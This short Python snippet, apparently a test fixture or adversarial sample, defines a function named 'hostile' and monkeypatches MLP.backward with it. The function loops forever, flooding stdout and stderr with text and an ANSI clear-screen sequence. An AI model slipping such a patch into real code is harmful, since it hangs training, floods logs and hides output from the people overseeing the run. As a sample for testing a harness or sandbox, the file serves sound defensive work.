import os


def hostile(self, x, y):
    block = b"PRINTED\x1b[2J" * 10_000
    while True:
        os.write(1, block)
        os.write(2, block)


MLP.backward = hostile
